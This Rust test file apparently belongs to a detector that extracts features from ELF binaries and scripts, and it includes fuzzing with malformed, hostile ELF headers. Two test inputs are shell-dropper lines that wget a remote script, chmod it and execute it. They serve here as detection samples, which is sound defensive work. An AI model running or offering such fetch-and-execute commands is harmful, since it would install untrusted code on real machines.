//! Schema and robustness tests of the whole extractor: names and widths agree, the
//! schema fingerprint is pinned to `SCHEMA_VERSION`, real and synthetic inputs give
//! sensible rows, and thousands of mutated or hand-crafted hostile ELF files never
//! panic and never yield a non-finite value.

use super::elf::testelf::{Ph, Sh, build};
use super::elf::{ElfView, read_u64};
use super::fnv::fnv1a;
use super::*;
use goblin::elf::dynamic::{DT_GNU_HASH, DT_NEEDED, DT_STRSZ, DT_STRTAB, DT_SYMTAB};
use goblin::elf::program_header::{PT_DYNAMIC, PT_INTERP, PT_LOAD, PT_NOTE};
use goblin::elf::section_header::SHT_PROGBITS;

/// FNV-1a over column names (NUL-separated): pinned with their schema version.
fn fingerprint(names: &[&str]) -> u64 {
    let mut joined = Vec::new();
    for n in names {
        joined.extend_from_slice(n.as_bytes());
        joined.push(0);
    }
    fnv1a(&joined)
}

/// Pinned (version, width, fingerprint) of every schema. If this fails you changed
/// a schema: append groups under a new SCHEMA_VERSION and pin it (and retrain);
/// an old schema's columns never change (bundles trained on it are still served).
const PINNED: [(u32, usize, u64); 2] = [
    (1, 745, 1_067_758_066_109_160_519),
    (2, 1011, 11_866_403_605_575_329_831),
];

fn value(f: &Features, name: &str) -> f32 {
    column(name)
        .and_then(|i| f.values.get(i).copied())
        .unwrap_or(f32::NAN)
}

fn assert_sane(f: &Features, what: &str) {
    assert_eq!(f.values.len(), FEATURE_COUNT, "{what}");
    if let Some((i, v)) = f.values.iter().enumerate().find(|(_, v)| !v.is_finite()) {
        panic!("{what}: column {} = {v}", names()[i]);
    }
}

fn group_sum(f: &Features, prefix: &str) -> f32 {
    names()
        .iter()
        .zip(&f.values)
        .filter(|(n, _)| n.starts_with(prefix))
        .map(|(_, v)| v.abs())
        .sum()
}

#[test]
fn names_match_widths_and_are_unique() {
    let names = names();
    assert_eq!(names.len(), FEATURE_COUNT);
    let mut sorted = names.to_vec();
    sorted.sort_unstable();
    sorted.dedup();
    assert_eq!(sorted.len(), names.len(), "duplicate column names");
    for n in names {
        assert!(
            !n.is_empty()
                && n.bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_'),
            "{n}"
        );
    }
    let groups = groups();
    assert_eq!(groups.first().map(|g| g.1.start), Some(0));
    assert_eq!(groups.last().map(|g| g.1.end), Some(FEATURE_COUNT));
    for w in groups.windows(2) {
        assert_eq!(w[0].1.end, w[1].1.start);
    }
    let prefixes = [
        ("format", "fmt_"),
        ("header", "hdr_"),
        ("segments", "ph_"),
        ("sections", "sh_"),
        ("dynamic", "dyn_"),
        ("interp", "interp_"),
        ("toolchain", "tc_"),
        ("strings", "str_"),
        ("packer", "pack_"),
        ("byte_hist", "byte_hist_"),
        ("byte_entropy", "byte_ent_"),
        ("linking", "lnk_"),
        ("kmod", "kmod_"),
        ("section_names", "shn_"),
        ("string_hash", "strh_"),
    ];
    assert_eq!(groups.len(), prefixes.len());
    for ((group, range), (want, prefix)) in groups.iter().zip(prefixes) {
        assert_eq!(*group, want);
        for n in &names[range.clone()] {
            assert!(n.starts_with(prefix), "{n} in group {group}");
        }
    }
    assert!((400..=1200).contains(&FEATURE_COUNT), "{FEATURE_COUNT}");
}

#[test]
fn schemas_are_pinned() {
    let now: Vec<(u32, usize, u64)> = (1..=SCHEMA_VERSION)
        .filter_map(Schema::new)
        .map(|s| (s.version(), s.width(), fingerprint(s.names())))
        .collect();
    assert_eq!(
        now, PINNED,
        "schema changed: bump SCHEMA_VERSION and update PINNED"
    );
    assert_eq!(Schema::LATEST.width(), FEATURE_COUNT);
    assert_eq!(Schema::new(SCHEMA_VERSION), Some(Schema::LATEST));
    assert_eq!(Schema::new(0), None);
    assert_eq!(Schema::new(SCHEMA_VERSION + 1), None);
}

#[test]
fn older_schema_rows_are_prefixes() {
    let inputs: Vec<Vec<u8>> = [
        "/bin/true",
        "/bin/sh",
        "/usr/lib/x86_64-linux-gnu/libc.so.6",
    ]
    .iter()
    .filter_map(|p| std::fs::read(p).ok())
    .chain([
        b"#!/bin/sh\nwget http://x/y; chmod +x y\n".to_vec(),
        vec![0u8; 64],
    ])
    .collect();
    for bytes in &inputs {
        let full = extract(bytes);
        for schema in (1..SCHEMA_VERSION).filter_map(Schema::new) {
            let mut old = Features::default();
            extract_schema_into(bytes, schema, &mut old);
            assert_eq!(old.values.len(), schema.width());
            assert_eq!(old.values.as_slice(), &full.values[..schema.width()]);
            assert_eq!(old.parsed, full.parsed);
        }
    }
}

fn real_elf() -> Option<Vec<u8>> {
    ["/bin/true", "/usr/bin/true"]
        .iter()
        .find_map(|p| std::fs::read(p).ok())
}

#[test]
fn schema_2_groups_on_real_files() {
    // libc exports the functions preload rootkits hook; /bin/true exports none.
    let libc = std::fs::read("/usr/lib/x86_64-linux-gnu/libc.so.6");
    let (Ok(libc), Some(tru)) = (libc, real_elf()) else {
        eprintln!("skipped: no x86-64 libc or /bin/true");
        return;
    };
    let lib = extract(&libc);
    assert_sane(&lib, "libc");
    for col in [
        "lnk_hook_fs",
        "lnk_hook_net",
        "lnk_hook_exec",
        "lnk_verdef",
        "lnk_versym",
    ] {
        assert_eq!(value(&lib, col), 1.0, "libc {col}");
    }
    assert!(value(&lib, "lnk_hook_exports_log") > 2.0);
    assert!(group_sum(&lib, "lnk_export_hash_") > 10.0);
    assert!(group_sum(&lib, "shn_hash_") > 5.0);
    assert!(group_sum(&lib, "strh_hash_") > 10.0);
    let t = extract(&tru);
    assert_eq!(value(&t, "lnk_hook_exports_log"), 0.0);
    assert_eq!(value(&t, "lnk_hook_fs"), 0.0);
    assert!(group_sum(&t, "lnk_import_hash_") > 1.0);
    // The kernel-module group reads relocatable objects only.
    assert_eq!(group_sum(&lib, "kmod_"), 0.0);
    assert_eq!(group_sum(&t, "kmod_"), 0.0);
}

#[test]
fn real_elf_row() {
    let Some(bytes) = real_elf() else {
        eprintln!("skipped: no /bin/true");
        return;
    };
    let f = extract(&bytes);
    assert_sane(&f, "/bin/true");
    assert!(f.parsed);
    assert_eq!(value(&f, "fmt_elf"), 1.0);
    assert_eq!(value(&f, "fmt_elf_parsed"), 1.0);
    assert_eq!(value(&f, "sh_present"), 1.0);
    assert_eq!(value(&f, "sh_has_text"), 1.0);
    assert_eq!(value(&f, "dyn_present"), 1.0);
    assert!(value(&f, "dyn_imports_log") > 1.0);
    assert_eq!(value(&f, "interp_present"), 1.0);
    assert_eq!(value(&f, "interp_known_loader"), 1.0);
    assert_eq!(value(&f, "tc_note_build_id"), 1.0);
    assert!(value(&f, "sh_entropy_text") > 4.0);
    let hist = group_sum(&f, "byte_hist_");
    assert!((hist - 1.0).abs() < 1e-3, "{hist}");
    let ent = group_sum(&f, "byte_ent_");
    assert!((ent - 1.0).abs() < 1e-3, "{ent}");
    assert_eq!(extract(&bytes), f, "extraction is deterministic");
    let mut reused = Features {
        values: vec![9.0; 3],
        parsed: false,
    };
    extract_into(&bytes, &mut reused);
    assert_eq!(reused, f);
}

#[test]
fn script_and_other_rows() {
    let script = b"#!/bin/sh\ncd /tmp; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh\n";
    let f = extract(script);
    assert_sane(&f, "script");
    assert!(!f.parsed);
    assert_eq!(value(&f, "fmt_script"), 1.0);
    assert_eq!(value(&f, "fmt_script_shell"), 1.0);
    for prefix in ["hdr_", "ph_", "sh_", "dyn_", "interp_", "tc_note_"] {
        assert_eq!(group_sum(&f, prefix), 0.0, "{prefix} on a script");
    }
    assert!(value(&f, "str_url_log") > 0.0);
    assert!(value(&f, "str_wget_log") > 0.0);
    assert!(value(&f, "str_ipv4_log") > 0.0);
    assert!(value(&f, "str_shell_log") > 0.0);
    assert!(group_sum(&f, "byte_hist_") > 0.99);

    let f = extract(&[]);
    assert_sane(&f, "empty");
    assert_eq!(value(&f, "fmt_other"), 1.0);
    assert_eq!(f.values.iter().filter(|v| **v != 0.0).count(), 1);

    let f = extract(b"\x7fELF");
    assert_sane(&f, "magic only");
    assert!(!f.parsed);
    assert_eq!(value(&f, "fmt_elf"), 1.0);
}

#[test]
fn header_only_features_when_goblin_refuses() {
    // Class 3 (invalid) but valid data byte: type and machine still come through.
    let mut b = build(0x100, 0, &[], 0, &[], 0, &[]);
    b[4] = 3;
    let f = extract(&b);
    assert_sane(&f, "bad class");
    assert!(!f.parsed);
    assert_eq!(value(&f, "hdr_machine_x86_64"), 1.0);
    assert_eq!(value(&f, "hdr_type_dyn"), 1.0);
    assert_eq!(value(&f, "hdr_class64"), 0.0);
}

// ---- robustness -----------------------------------------------------------------

/// xorshift64*: a small deterministic PRNG (no rand crate needed).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next() % n as u64) as usize
        }
    }

    /// A value likely to hit edge cases.
    fn nasty(&mut self, len: usize) -> u64 {
        match self.below(10) {
            0 => 0,
            1 => u64::MAX,
            2 => u64::from(u32::MAX),
            3 => 0xffff,
            4 => len as u64,
            5 => (len as u64).wrapping_sub(1),
            6 => 1 << self.below(64),
            7 => self.next() % 0x1_0000,
            _ => self.next(),
        }
    }
}

/// Regions of a real ELF worth mutating: ELF header, program and section header
/// tables, the dynamic section, .dynsym/.gnu.hash and notes.
fn regions(bytes: &[u8]) -> Vec<(usize, usize)> {
    let v = ElfView::parse(bytes);
    let mut out = vec![(0usize, 64usize)];
    if let Some(h) = &v.header {
        out.push((
            h.e_phoff as usize,
            usize::from(h.e_phnum) * usize::from(h.e_phentsize),
        ));
        out.push((
            h.e_shoff as usize,
            usize::from(h.e_shnum) * usize::from(h.e_shentsize),
        ));
    }
    for p in &v.phdrs {
        if matches!(p.p_type, PT_DYNAMIC | PT_NOTE | PT_INTERP) {
            out.push((p.p_offset as usize, p.p_filesz as usize));
        }
    }
    for s in &v.shdrs {
        if matches!(s.sh_type, 5 | 6 | 7 | 11 | 0x6fff_fff6) {
            out.push((s.sh_offset as usize, s.sh_size as usize));
        }
    }
    out.retain(|(o, l)| *l > 0 && o.checked_add(*l).is_some_and(|e| e <= bytes.len()));
    out
}

fn mutate(rng: &mut Rng, base: &[u8], regions: &[(usize, usize)]) -> Vec<u8> {
    let mut b = base.to_vec();
    for _ in 0..1 + rng.below(4) {
        let len = b.len();
        match rng.below(8) {
            // Random byte flips anywhere.
            0 => {
                for _ in 0..1 + rng.below(16) {
                    let i = rng.below(len);
                    if let Some(x) = b.get_mut(i) {
                        *x ^= 1 << rng.below(8);
                    }
                }
            }
            // A nasty integer of 2, 4 or 8 bytes, aligned, inside a structural region.
            1..=4 => {
                let (off, rlen) = regions
                    .get(rng.below(regions.len()))
                    .copied()
                    .unwrap_or((0, 64));
                let width = [2usize, 4, 8][rng.below(3)];
                let at = (off + rng.below(rlen)) & !(width - 1);
                let v = rng.nasty(len).to_le_bytes();
                if let Some(dst) = b.get_mut(at..at + width) {
                    dst.copy_from_slice(&v[..width]);
                }
            }
            // Truncation.
            5 => b.truncate(rng.below(len + 1)),
            // Class / byte-order confusion.
            6 => {
                if let Some(x) = b.get_mut(4 + rng.below(2)) {
                    *x = rng.below(4) as u8;
                }
            }
            // Garbage appended (an overlay) or a chunk overwritten with 0xff.
            _ => {
                if rng.below(2) == 0 {
                    let n = rng.below(8192);
                    b.extend((0..n).map(|_| rng.next() as u8));
                } else {
                    let at = rng.below(len);
                    let n = rng.below(512);
                    for x in b.iter_mut().skip(at).take(n) {
                        *x = 0xff;
                    }
                }
            }
        }
    }
    b
}

#[test]
fn mutated_real_elf_never_panics() {
    let base = real_elf().unwrap_or_else(|| {
        build(
            0x2000,
            0x1000,
            &[Ph {
                p_type: PT_LOAD,
                flags: 5,
                offset: 0,
                vaddr: 0,
                filesz: 0x2000,
                memsz: 0x2000,
            }],
            0x1000,
            &[
                Sh::default(),
                Sh {
                    sh_type: SHT_PROGBITS,
                    offset: 0,
                    size: 0x1000,
                    ..Sh::default()
                },
            ],
            0,
            &[],
        )
    });
    let regions = regions(&base);
    let mut rng = Rng(0x5eed_1234_abcd_ef01);
    let mut parsed = 0;
    let mut row = Features::default();
    // VIGIL_FUZZ_ROUNDS scales the campaign up for a long run (e.g. in release mode).
    let rounds: usize = std::env::var("VIGIL_FUZZ_ROUNDS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(4000);
    for round in 0..rounds {
        let input = mutate(&mut rng, &base, &regions);
        extract_into(&input, &mut row);
        assert_sane(&row, &format!("round {round}"));
        parsed += usize::from(row.parsed);
    }
    // Both outcomes must be exercised.
    assert!(parsed > 0 && parsed < rounds, "parsed {parsed} of {rounds}");
}

#[test]
fn big_endian_32_bit_garbage_never_panics() {
    let mut rng = Rng(42);
    for _ in 0..2000 {
        let len = rng.below(600);
        let mut b: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
        if let Some(h) = b.get_mut(..6) {
            h.copy_from_slice(&[
                0x7f,
                b'E',
                b'L',
                b'F',
                1 + rng.below(2) as u8,
                1 + rng.below(2) as u8,
            ]);
        }
        assert_sane(&extract(&b), "random header");
    }
}

/// Writes a little-endian u64 dynamic entry.
fn dyn_entry(tag: u64, val: u64) -> Vec<u8> {
    let mut e = tag.to_le_bytes().to_vec();
    e.extend_from_slice(&val.to_le_bytes());
    e
}

#[test]
fn hand_crafted_hostile_headers() {
    let mut cases: Vec<(&str, Vec<u8>)> = Vec::new();
    let base = build(0x400, 0, &[], 0, &[], 0, &[]);
    let with = |patches: &[(usize, &[u8])]| {
        let mut b = base.clone();
        for (at, bytes) in patches {
            b[*at..*at + bytes.len()].copy_from_slice(bytes);
        }
        b
    };
    cases.push((
        "phnum 65535",
        with(&[(32, &64u64.to_le_bytes()), (56, &0xffffu16.to_le_bytes())]),
    ));
    cases.push((
        "shnum 65535",
        with(&[(40, &64u64.to_le_bytes()), (60, &0xffffu16.to_le_bytes())]),
    ));
    cases.push((
        "tables past EOF",
        with(&[
            (32, &u64::MAX.to_le_bytes()),
            (40, &(u64::MAX - 10).to_le_bytes()),
            (56, &3u16.to_le_bytes()),
            (60, &3u16.to_le_bytes()),
        ]),
    ));
    // e_shnum = 0 defers the count to section 0's sh_size: make it huge.
    cases.push((
        "deferred shnum",
        build(
            0x400,
            0,
            &[],
            0x100,
            &[Sh {
                size: u64::MAX,
                ..Sh::default()
            }],
            0xffff,
            &[(60, &0u16.to_le_bytes())],
        ),
    ));
    cases.push((
        "overflowing segments",
        build(
            0x400,
            u64::MAX,
            &[
                Ph {
                    p_type: PT_LOAD,
                    flags: 7,
                    offset: u64::MAX,
                    vaddr: u64::MAX - 1,
                    filesz: u64::MAX,
                    memsz: u64::MAX,
                },
                Ph {
                    p_type: PT_INTERP,
                    flags: 4,
                    offset: 0x200,
                    vaddr: 0,
                    filesz: u64::MAX,
                    memsz: 0,
                },
                Ph {
                    p_type: PT_NOTE,
                    flags: 4,
                    offset: 0x300,
                    vaddr: 0,
                    filesz: u64::MAX,
                    memsz: 0,
                },
                Ph {
                    p_type: PT_DYNAMIC,
                    flags: 6,
                    offset: u64::MAX - 8,
                    vaddr: 0,
                    filesz: 32,
                    memsz: 32,
                },
            ],
            0,
            &[],
            0,
            &[(0x300, &[0xff; 12])],
        ),
    ));
    cases.push((
        "overflowing sections",
        build(
            0x400,
            0,
            &[],
            0x200,
            &[
                Sh::default(),
                Sh {
                    sh_type: SHT_PROGBITS,
                    flags: 7,
                    offset: u64::MAX,
                    size: u64::MAX,
                    ..Sh::default()
                },
                Sh {
                    name: u32::MAX,
                    sh_type: 11,
                    offset: 0x10,
                    size: u64::MAX - 0x8,
                    link: u32::MAX,
                    ..Sh::default()
                },
                Sh {
                    sh_type: 7,
                    offset: 0x40,
                    size: 0x10_0000,
                    ..Sh::default()
                },
            ],
            2,
            &[],
        ),
    ));
    // A dynamic section whose string table, symbol table and GNU hash are hostile.
    let mut dynamic = Vec::new();
    for (tag, val) in [
        (DT_NEEDED, u64::MAX),
        (DT_NEEDED, 0),
        (DT_STRTAB, 0x10),
        (DT_STRSZ, u64::MAX),
        (DT_SYMTAB, 0x20),
        (DT_GNU_HASH, 0x300),
        (0, 0),
    ] {
        dynamic.extend(dyn_entry(tag, val));
    }
    let mut gnu_hash = Vec::new();
    for v in [u32::MAX, 0, u32::MAX, 0] {
        gnu_hash.extend_from_slice(&v.to_le_bytes());
    }
    cases.push((
        "hostile dynamic",
        build(
            0x400,
            0,
            &[
                Ph {
                    p_type: PT_LOAD,
                    flags: 5,
                    offset: 0,
                    vaddr: 0,
                    filesz: 0x400,
                    memsz: 0x400,
                },
                Ph {
                    p_type: PT_DYNAMIC,
                    flags: 6,
                    offset: 0x200,
                    vaddr: 0x200,
                    filesz: dynamic.len() as u64,
                    memsz: 0,
                },
            ],
            0,
            &[],
            0,
            &[(0x200, &dynamic), (0x300, &gnu_hash)],
        ),
    ));
    for (what, bytes) in &cases {
        let f = extract(bytes);
        assert_sane(&f, what);
        assert_eq!(value(&f, "fmt_elf"), 1.0, "{what}");
    }
}

#[test]
fn many_overlapping_sections_stay_linear() {
    // 65535 section headers, each claiming the whole file: entropy work is budgeted.
    let n = 0xffffusize;
    let shoff = 0x1000usize;
    let len = shoff + n * 64;
    let mut b = build(len, 0, &[], 0, &[], 0, &[]);
    b[40..48].copy_from_slice(&(shoff as u64).to_le_bytes());
    b[60..62].copy_from_slice(&(n as u16).to_le_bytes());
    for i in 1..n {
        let at = shoff + i * 64;
        b[at + 4..at + 8].copy_from_slice(&SHT_PROGBITS.to_le_bytes());
        b[at + 24..at + 32].copy_from_slice(&0u64.to_le_bytes());
        b[at + 32..at + 40].copy_from_slice(&(len as u64).to_le_bytes());
    }
    let start = std::time::Instant::now();
    let f = extract(&b);
    let took = start.elapsed();
    assert_sane(&f, "many sections");
    assert_eq!(read_u64(&b, 40, true), Some(shoff as u64));
    assert!(value(&f, "sh_count_log") > 11.0);
    // Generous even for an unoptimized build; quadratic work would take minutes.
    assert!(took.as_secs() < 20, "{took:?}");
}

#[test]
fn mutated_corpus_never_panics() {
    // Opt-in: VIGIL_FUZZ_TAR=/path/to/corpus.tar.xz mutates every member in memory
    // (VIGIL_FUZZ_PER_MEMBER times, default 200). Samples never touch the disk.
    let Some(archive) = std::env::var_os("VIGIL_FUZZ_TAR") else {
        eprintln!("skipped: set VIGIL_FUZZ_TAR to fuzz from a corpus archive");
        return;
    };
    let per_member: usize = std::env::var("VIGIL_FUZZ_PER_MEMBER")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(200);
    let mut rng = Rng(0xc0ff_ee00_d15e_a5e5);
    let mut row = Features::default();
    let mut inputs = 0u64;
    let summary = crate::tarsource::for_each_member::<crate::Error, _>(
        std::path::Path::new(&archive),
        |name, bytes| {
            let regions = regions(bytes);
            for round in 0..per_member {
                let input = mutate(&mut rng, bytes, &regions);
                extract_into(&input, &mut row);
                assert_sane(&row, &format!("{name} round {round}"));
                inputs += 1;
            }
            Ok(())
        },
    );
    let summary = summary.unwrap_or_else(|e| panic!("{e}"));
    eprintln!("fuzzed {inputs} mutants of {} members", summary.members);
}

#[test]
fn linkage_follows_the_interpreter_and_needed_libraries() {
    // A bare header names neither: static, as are scripts and empty rows.
    let bare = build(0x400, 0, &[], 0, &[], 0, &[]);
    assert_eq!(extract(&bare).linkage(), Linkage::Static);
    assert_eq!(extract(b"#!/bin/sh\necho hi\n").linkage(), Linkage::Static);
    assert_eq!(Features::default().linkage(), Linkage::Static);
    let Some(tru) = real_elf() else {
        eprintln!("skipped: no /bin/true");
        return;
    };
    assert_eq!(extract(&tru).linkage(), Linkage::Dynamic);
}
